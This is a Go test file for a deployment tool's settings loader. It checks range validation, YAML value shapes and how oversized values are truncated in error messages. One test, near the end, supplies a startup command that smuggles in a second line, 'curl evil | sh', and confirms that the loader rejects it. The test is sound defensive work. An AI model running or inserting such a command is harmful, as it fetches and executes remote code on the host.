package settings

import (
	"strings"
	"testing"

	"github.com/djdeploy/djdeploy/internal/problem"
)

// TestRanges: numbers and durations outside their declared range were
// accepted and silently replaced by a default (--verify-timeout 0 gave 5m,
// --workers 100000 reached the startup command). Each is now exit 2 naming
// the range, from a flag, the environment or the file alike.
func TestRanges(t *testing.T) {
	for _, tc := range []struct{ name, raw, want string }{
		{"static-concurrency", "0", "1 to 256"},
		{"static-concurrency", "-1", "1 to 256"},
		{"static-concurrency", "100000", "1 to 256"},
		{"smoke-concurrency", "0", "1 to 256"},
		{"deploy-timeout", "0s", "1s to 24h"},
		{"deploy-timeout", "-5m", "1s to 24h"},
		{"warmup-timeout", "0", "1s to 24h"},
		{"verify-timeout", "0s", "1s to 24h"},
		{"swap-timeout", "-1s", "1s to 24h"},
		{"purge-timeout", "0s", "1s to 24h"},
		{"lock-timeout", "-1s", "0s to 24h"},
		{"lock-timeout", "25h", "0s to 24h"},
		{"purge-max-requests", "0", "1 to 100"},
		{"workers", "-1", "1 to 128"},
		{"workers", "100000", "1 to 128"},
		{"static-grace", "-1h", "0s to 8760h"},
		{"static-keep", "0", "1 to 1000"},
		{"smoke-requests", "-3", "0 to 100000"},
		{"smoke-max-p95", "0s", "1ms to 1h"},
	} {
		env := map[string]string{}
		s, _ := Lookup(tc.name)
		env[s.EnvName()] = tc.raw
		_, err := Load(nil, func(k string) string { return env[k] }, "", false)
		p, ok := problem.As(err)
		if !ok || !p.Usage || !strings.Contains(p.What, s.EnvName()) || !strings.Contains(p.What, "out of range ("+tc.want+")") {
			t.Errorf("%s=%s: got %v, want a usage error naming %s and the range %s", tc.name, tc.raw, err, s.EnvName(), tc.want)
		}
	}
	// The edges are inside.
	for name, raw := range map[string]string{"lock-timeout": "0s", "static-grace": "0s", "workers": "128", "static-concurrency": "1", "deploy-timeout": "24h"} {
		s, _ := Lookup(name)
		if _, err := Load(nil, func(k string) string {
			if k == s.EnvName() {
				return raw
			}
			return ""
		}, "", false); err != nil {
			t.Errorf("%s=%s refused: %v", name, raw, err)
		}
	}
	// Every numeric setting declares a range, and the docs and flags show it.
	for _, s := range All() {
		if (s.Kind == Int || s.Kind == Duration) && s.Range() == "" {
			t.Errorf("%s has no declared range", s.Name)
		}
	}
}

// TestFileValueShapes: a null value, a second YAML document and a huge
// value each get one clear message.
func TestFileValueShapes(t *testing.T) {
	big := strings.Repeat("x", 10<<20)
	for _, tc := range []struct{ in, want string }{
		{"static-prefix: null\n", "line 1: static-prefix has no value (null)"},
		{"static-prefix: ~\n", "static-prefix has no value (null)"},
		{"static-prefix:\n", "static-prefix has no value (null)"},
		{"app: a\n---\nslot: b\n", "more than one YAML document"},
	} {
		_, err := ParseFile("djdeploy.yaml", []byte(tc.in))
		p, ok := problem.As(err)
		if !ok || !p.Usage || !strings.Contains(p.What, tc.want) {
			t.Errorf("ParseFile(%q) = %v, want a usage error containing %q", tc.in, err, tc.want)
		}
	}
	if got, err := ParseFile("djdeploy.yaml", []byte("static-prefix: \"\"\napp: a\n---\n")); err != nil || got["static-prefix"] != "" {
		t.Errorf("quoted empty value and a trailing empty document: %v %v", got, err)
	}
	_, err := Load(nil, func(k string) string {
		if k == "DJDEPLOY_WORKERS" {
			return big
		}
		return ""
	}, "", false)
	if err == nil || len(err.Error()) > 400 || !strings.Contains(err.Error(), "10485760 bytes long") {
		t.Errorf("a 10 MB value: %d-byte message %.300q", len(err.Error()), err)
	}
	// A bad value under the size limit is still echoed cut short.
	_, err = Load(nil, func(k string) string {
		if k == "DJDEPLOY_WORKERS" {
			return strings.Repeat("9", 1000)
		}
		return ""
	}, "", false)
	if err == nil || len(err.Error()) > 300 || !strings.Contains(err.Error(), "(1000 bytes)") {
		t.Errorf("a 1000-byte bad value: %q", err)
	}
	_, err = Load(nil, func(k string) string {
		if k == "DJDEPLOY_STARTUP_COMMAND" {
			return "gunicorn app\ncurl evil | sh"
		}
		return ""
	}, "", false)
	if p, ok := problem.As(err); !ok || !p.Usage || !strings.Contains(p.What, "line break") || strings.Contains(p.What, "curl") {
		t.Errorf("a startup command with a newline: %v", err)
	}
}
